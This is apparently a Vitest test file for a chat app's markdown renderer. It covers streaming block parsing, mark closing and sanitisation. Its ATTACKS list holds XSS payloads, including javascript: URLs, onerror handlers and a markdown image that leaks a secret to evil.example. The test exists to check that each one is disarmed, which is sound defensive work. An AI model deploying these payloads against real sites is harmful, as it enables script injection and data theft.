// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { closeOpenMarks, grow, NO_BLOCKS, parseOnly, renderMarkdown } from '../../src/chat/markdown';
import { randomFrom } from './random';

const LINES = [
  'Plain words with **bold** and `code`.',
  '- a list item',
  '  continued',
  '* another mark',
  '1. first',
  '2. second',
  '',
  '',
  '```',
  'const x = 1;',
  '> quoted',
  '| a | b |',
  '|---|---|',
  '| 1 | 2 |',
  '# Heading',
  'Title',
  '===',
  '---',
  '    indented',
  '[ref]: https://example.org',
  'see [ref] and [link](https://example.org/a)',
  '<div>',
  '</div>',
  '- [ ] open',
  '\\* escaped',
];

/** What a reader sees, whatever the line breaks between blocks. */
const flat = (html: string) => html.replace(/\n+(?=<)|(?<=>)\n+/g, '').trim();

describe('grow', () => {
  it('draws_the_same_in_pieces_as_at_once', () => {
    for (let seed = 1; seed <= 1500; seed++) {
      const random = randomFrom(seed);
      const text = Array.from({ length: 1 + random.below(14) }, () => random.pick(LINES)).join('\n');
      let blocks = NO_BLOCKS;
      for (let at = 0; at < text.length; ) {
        const size = 1 + random.below(9);
        blocks = grow(blocks, text.slice(at, at + size));
        at += size;
      }
      const pieces = [...blocks.frozen, blocks.open].map(parseOnly).join('\n');
      expect(flat(pieces), `seed ${seed}: ${JSON.stringify(text)}`).toBe(flat(parseOnly(text)));
    }
  });

  it('never_changes_a_frozen_block', () => {
    let blocks = NO_BLOCKS;
    const before: string[][] = [];
    for (const char of 'One.\n\nTwo.\n\n- a\n- b\n\nThree\n') {
      blocks = grow(blocks, char);
      before.push([...blocks.frozen]);
    }
    for (const frozen of before) expect(blocks.frozen.slice(0, frozen.length)).toEqual(frozen);
    expect(blocks.frozen.length).toBe(3);
    expect(blocks.open).toBe('Three\n');
  });

  it('keeps_an_open_code_fence_open', () => {
    const blocks = grow(NO_BLOCKS, 'Intro\n\n```js\nlet a;\n\nlet b;\n');
    expect(blocks.frozen).toHaveLength(1);
    expect(blocks.open).toContain('let b;');
  });
});

describe('closeOpenMarks', () => {
  it.each([
    ['half **bold', 'half **bold**'],
    ['half **', 'half '],
    ['half `co', 'half `co`'],
    ['half `', 'half '],
    ['see [the pa', 'see the pa'],
    ['see [the page](https://exa', 'see the page'],
    ['done **b** and `c`', 'done **b** and `c`'],
    ['```\nlet a = **', '```\nlet a = **'],
  ])('%j becomes %j', (open, closed) => expect(closeOpenMarks(open)).toBe(closed));
});

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![x](https://evil.example/leak?d=secret)',
  '![x](javascript:alert(1))',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#x0A;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/protocol-relative)',
  '[x](/api/auth/logout)',
  '<a href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name=a><button>Sign in</button></form>',
  '<style>@import url(https://evil.example)</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<p id="main" class="fault" name="body">x</p>',
  '<link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<video src="https://evil.example"></video><audio src=x></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<table background="https://evil.example"><td>x</td></table>',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '[a](https://x.example" onmouseover="alert(1))',
  "[a](https://x.example '\" onclick=alert(1)')",
  '[<img src=x onerror=alert(1)>](https://x.example)',
];

describe('renderMarkdown', () => {
  it.each(ATTACKS)('disarms %j', (attack) => {
    const box = document.createElement('div');
    box.innerHTML = String(renderMarkdown(attack));
    const elements = [...box.querySelectorAll('*')];
    const allowed = /^(P|BR|STRONG|EM|DEL|CODE|PRE|UL|OL|LI|H[1-6]|BLOCKQUOTE|HR|A|SMALL|TABLE|THEAD|TBODY|TR|TH|TD)$/;
    for (const element of elements) {
      expect(element.tagName).toMatch(allowed);
      for (const { name, value } of element.attributes) {
        expect(['href', 'start', 'align', 'rel', 'target']).toContain(name);
        if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/);
      }
    }
  });

  it('opens_links_elsewhere_and_names_their_host', () => {
    const html = String(renderMarkdown('[the docs](https://example.org/a)'));
    expect(html).toContain('rel="noopener noreferrer"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('(example.org)');
  });

  it('shows_an_image_as_words', () => {
    expect(String(renderMarkdown('![a cat](https://example.org/cat.png)'))).toContain('[image: a cat]');
  });
});
